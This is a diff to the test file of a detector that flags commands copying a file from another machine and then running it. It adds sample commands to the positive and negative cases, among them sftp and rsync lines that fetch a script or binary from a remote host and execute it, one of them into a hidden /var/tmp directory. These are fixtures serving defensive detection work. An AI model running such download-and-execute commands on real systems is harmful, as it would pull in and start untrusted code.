@@ -26,6 +26,9 @@ from app.detection.staging import copies_in_then_runs
         "scp guest@198.51.100.9:/srv/p /tmp/p && sh /tmp/p",
         "scp -P 2222 guest@files.drop.test:agent /tmp/agent; chmod +x /tmp/agent; /tmp/agent",
         "rsync -az rsync://198.51.100.9/pub/p /tmp/p && /tmp/p",
+        # …renamed on the way to an absolute Unix path, and started by that name
+        "sftp anon@203.0.113.5:/pub/update.sh /tmp/u.sh && bash /tmp/u.sh",
+        "rsync -avz guest@198.51.100.77:/srv/tools/cleaner /var/tmp/.c/x && /var/tmp/.c/x",
         # .NET's copy is a copy
         "$d=\"$env:TEMP\\a.exe\";[IO.File]::Copy('\\\\198.51.100.9\\s\\a.exe',$d,$true);& $d",
     ],
@@ -50,6 +53,7 @@ def test_a_file_brought_from_another_computer_and_started_is_read(text: str) -> 
         "tftp -i 192.168.0.1 GET a.exe & a.exe",
         # a file with no extension copied in and only read, or named by a Windows program
         "scp guest@198.51.100.9:/srv/notes /tmp/notes && cat /tmp/notes",
+        "sftp guest@198.51.100.9:/srv/u.sh /tmp/u.sh && bash /tmp/other.sh",
         "copy \\\\192.0.2.15\\pub\\README C:\\Temp\\ & start README",
         # a variable that names a local copy, and one started that names another file
         '$p="$env:TEMP\\x.exe"; Copy-Item \\\\fileserver\\s\\x.exe $p; Start-Process $p',
